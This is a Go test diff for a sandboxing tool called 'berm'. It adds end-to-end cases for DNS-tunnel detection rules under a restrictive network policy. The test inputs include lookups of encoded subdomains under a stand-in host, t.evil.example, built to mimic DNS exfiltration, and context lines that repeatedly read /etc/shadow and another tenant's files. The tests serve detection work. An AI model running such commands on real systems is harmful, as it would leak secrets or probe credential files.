@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"runtime"
 	"strings"
 	"testing"
@@ -49,9 +50,27 @@ func openOnly(paths ...string) []string {
 }
 
 type e2eCase struct {
-	rule  string
-	flags []string // berm run flags
-	cmd   []string
+	rule   string
+	flags  []string // berm run flags
+	policy string   // a policy file's text, given with --policy
+	cmd    []string
+}
+
+// dnsPolicy gives the call the host's network, filtered, with a domain rule: its DNS goes to
+// berm's resolver (which refuses every other name without asking anyone).
+const dnsPolicy = `apiVersion: berm.dev/v1alpha1
+kind: ToolPolicy
+metadata: {name: dns-e2e}
+spec:
+  isolation: {network: host-filtered}
+  network:
+    egress:
+      - {domain: allowed.test, ports: [443]}
+`
+
+// lookups resolves each name through the C library, as a tool would (the names are refused).
+func lookups(names string) []string {
+	return []string{py, "-c", "import socket\nfor n in " + names + ":\n    try: socket.getaddrinfo(n, 443, socket.AF_INET)\n    except OSError: pass\n"}
 }
 
 var e2eCases = []e2eCase{
@@ -115,6 +134,11 @@ var e2eCases = []e2eCase{
 	{rule: "probing-permission-errors", cmd: sh("i=0; while [ $i -lt 25 ]; do cat /etc/shadow 2>/dev/null; i=$((i+1)); done; true")},
 	// tenant.yaml
 	{rule: "tenant-foreign-path", flags: []string{"--tenant", "alice"}, cmd: sh("cat /var/lib/berm/tenants/bob/notes.txt >/dev/null 2>&1; true")},
+	// dns.yaml
+	{rule: "dns-tunnel-long-label", policy: dnsPolicy, cmd: lookups("['mzxw6ytboi4dsnzsgq2tmnzyhe3tembrgiztinjwg4ytsmrqgiydaojrgeztq.t.evil.example']")},
+	{rule: "dns-tunnel-high-entropy", policy: dnsPolicy, cmd: lookups("['x7k2p9q4m1v8z3b6n5c0w2r7t4y9.files.example']")},
+	{rule: "dns-tunnel-many-subdomains", policy: dnsPolicy, cmd: lookups("['c%d.t.evil.example' % i for i in range(60)]")},
+	{rule: "dns-unresolved-connect", policy: dnsPolicy, cmd: pySyscall("s = socket.socket()\nattempt(lambda: s.connect(('127.0.0.1', 9)))\n")},
 }
 
 // Every shipped rule has an end-to-end case, and every case names a shipped rule.
@@ -207,7 +231,15 @@ func TestE2EShippedRules(t *testing.T) {
 	for i, c := range e2eCases {
 		t.Run(c.rule, func(t *testing.T) {
 			callID := fmt.Sprintf("e2e-%02d-%s", i, c.rule)
-			events := runCall(t, bin, stateDir, callID, c.flags, c.cmd)
+			flags := c.flags
+			if c.policy != "" {
+				path := filepath.Join(stateDir, c.rule+".yaml")
+				if err := os.WriteFile(path, []byte(c.policy), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				flags = append([]string{"--policy", path}, flags...)
+			}
+			events := runCall(t, bin, stateDir, callID, flags, c.cmd)
 			bySeq := map[uint64]*event.Event{}
 			for j := range events {
 				bySeq[events[j].Seq] = &events[j]
